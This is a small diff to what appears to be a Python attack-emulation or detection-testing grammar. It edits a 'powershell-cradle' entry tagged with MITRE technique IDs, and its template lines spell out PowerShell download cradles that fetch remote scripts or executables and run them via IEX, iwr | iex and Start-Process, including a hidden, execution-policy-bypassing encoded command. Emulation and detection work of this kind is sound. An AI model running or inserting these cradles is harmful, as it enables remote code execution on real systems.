@@ -28,7 +28,7 @@ xp: del {drop}\{tool}.exe
 or
 xp: tasklist
 """),
-    Attack("powershell-cradle", ENGINE, ("T1059.001", "T1027", "T1105"), "an encoded or spelled-out download cradle", r"""
+    Attack("powershell-cradle", ENGINE, ("T1059.001", "T1027", "T1105"), "an encoded or plain download cradle", r"""
 nothing
 or
 xp: powershell -c "$PSVersionTable.PSVersion"
@@ -39,7 +39,8 @@ xp: powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {longblob}=
 or
 xp: powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('{url}.ps1')"
 or
-xp: powershell "(New-Object System.Net.WebClient).DownloadFile('{url}.exe','{drop}\{tool}.exe'); Start-Process {drop}\{tool}.exe"
+xp: powershell "(New-Object System.Net.WebClient).DownloadFile('{url}.exe','{drop}\{tool}.exe'); Start-Process
+.. {drop}\{tool}.exe"
   {drop}\{tool}.exe
 or
 xp: powershell -ep bypass iwr {url}.ps1 -UseBasicParsing ^| iex
